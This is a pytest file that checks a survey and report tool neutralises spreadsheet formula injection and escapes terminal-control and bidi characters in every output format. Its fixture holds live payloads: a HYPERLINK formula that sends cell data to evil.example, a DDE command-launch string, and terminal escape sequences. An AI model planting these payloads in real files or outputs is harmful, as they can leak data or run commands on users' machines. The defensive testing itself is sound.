"""Text from a file in every output, by one rule: a spreadsheet cell never starts a
formula (OWASP's CSV injection: `= + - @`, tab, CR) and an .xlsx never holds a formula
made of user text; control and bidi characters come out as the same visible escapes
(`\\x1b`, `\\u202e`) in the survey (CSV, XLSX, HTML form), the export, the deck, and
`compare` on the terminal — where a ratings file's segment column used to reach it raw."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest

from cyclemap.format.diagnostics import FORMULA_TRIGGERS, cell_text

# Double-quoted YAML: \e is ESC, \a BEL; each name starts with a formula trigger or holds
# a terminal escape, a bidi override or a noncharacter.
HOSTILE = r'''cyclemap: 1
title: '=HYPERLINK("http://evil.example","x")'
language: en
moments:
  - {id: "-a", name: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", kind: critical, owner: "@SUM(1+1)"}
  - {id: b, name: "+cmd|' /C calc'!A0", kind: critical, stage: "-2+3"}
  - {id: c, name: "\tTab then \rCR", kind: routine}
  - {id: d, name: "Pays \e]0;owned\a\e[2J at \u202eexit\u202c the till \uffff", kind: routine}
  - {id: e, name: "@cmd", kind: routine}
'''
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ufffe\uffff]")


@pytest.fixture
def hostile(write):
    return write("hostile.yaml", HOSTILE)


@pytest.mark.parametrize("text, cell", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "\\tx"),
    ("\rx", "\\rx"), ("a=b", "a=b"), ("", ""), ("\x1b[2Jx", "\\x1b[2Jx"), ("x\u202ey", "x\\u202ey"),
])
def test_the_one_cell_rule(text, cell):
    assert cell_text(text) == cell


def _safe_cell(value: str) -> bool:
    return not value.startswith(FORMULA_TRIGGERS) and not RAW.search(value)


def test_survey_csv_cells_are_never_formulas_and_read_back(cli, hostile, tmp_path):
    out = tmp_path / "survey.csv"
    run = cli("survey", str(hostile), "-o", str(out))
    assert run.code == 0, run.err
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    cells = [c for row in rows for c in row if c]
    assert cells and all(_safe_cell(c) for c in cells), cells
    # (each question carries its moment's tag after it: `[cm:id]`)
    assert any(c.startswith("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") [cm:") for c in rows[1]), rows[1]
    assert "'-a" in rows[0]  # an id that starts like a formula is quoted too ...
    # ... and --ratings reads the quoted column back as that moment's answers.
    rows.append(["r1", "", ""] + ["4"] * (len(rows[0]) - 4) + [""])
    filled = tmp_path / "filled.csv"
    with filled.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    run = cli("check", str(hostile), "--ratings", str(filled), "--format", "json")
    assert "Traceback" not in run.err
    assert "is not a moment of the cycle" not in run.out + run.err


def test_survey_xlsx_holds_no_formula_and_no_raw_control_character(cli, hostile, tmp_path):
    out = tmp_path / "survey.xlsx"
    run = cli("survey", str(hostile), "-o", str(out))
    assert run.code == 0, run.err + run.out
    with zipfile.ZipFile(out) as book:
        sheets = [book.read(n).decode("utf-8") for n in book.namelist() if n.startswith("xl/worksheets/")]
        strings = book.read("xl/sharedStrings.xml").decode("utf-8") if "xl/sharedStrings.xml" in book.namelist() else ""
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)  # no formula cell at all
    assert "HYPERLINK" in "".join(sheets) + strings  # the name is there, as text
    assert not RAW.search("".join(sheets) + strings)
    from openpyxl import load_workbook

    sheet = load_workbook(out).active
    name = sheet.cell(row=2, column=4).value
    assert name.startswith("=HYPERLINK") and sheet.cell(row=2, column=4).data_type == "s"
    assert sheet.cell(row=2, column=4).quotePrefix  # Excel shows it as written, never runs it


def test_survey_form_and_export_show_escapes(cli, hostile, tmp_path):
    form = tmp_path / "form.html"
    assert cli("survey", str(hostile), "-o", str(form)).code == 0
    html = form.read_text(encoding="utf-8")
    assert not RAW.search(html) and "\\x1b]0;owned" in html
    out = tmp_path / "moments.csv"
    assert cli("export", str(hostile), "--to", "csv", "-o", str(out)).code == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert all(_safe_cell(c) for row in rows for c in row if c)


def test_the_deck_takes_control_and_bidi_characters_as_escapes(cli, hostile, tmp_path):
    out = tmp_path / "deck.pptx"
    run = cli("deck", str(hostile), "-o", str(out), "--engine", "embedded")
    assert run.code == 0, run.err
    with zipfile.ZipFile(out) as deck:
        xml = "".join(deck.read(n).decode("utf-8") for n in deck.namelist() if n.startswith("ppt/slides/slide"))
    assert not RAW.search(xml)
    assert "\\x1b]0;owned" in xml or "owned" not in xml


def test_compare_never_sends_a_segment_value_raw_to_the_terminal(cli, write):
    cycle = write("bank.yaml", "cyclemap: 1\ntitle: Bank\nmoments:\n  - {id: a, name: A, kind: critical}\n"
                               "  - {id: b, name: B, kind: routine}\n")
    evil = "new\x1b]0;owned\x07\x1b[2J\u202e"
    ratings = write("wave.csv", "respondent,segment,a,b\n" + "".join(f"r{i},{evil},{3 + i % 2},4\n" for i in range(8)))
    for extra in ([], ["--segment", "absent"], ["--segment", evil]):
        run = cli("compare", str(cycle), "--ratings", str(ratings), "--against", str(ratings), *extra)
        assert "Traceback" not in run.err
        assert not RAW.search(run.out + run.err), (extra, run.out, run.err)
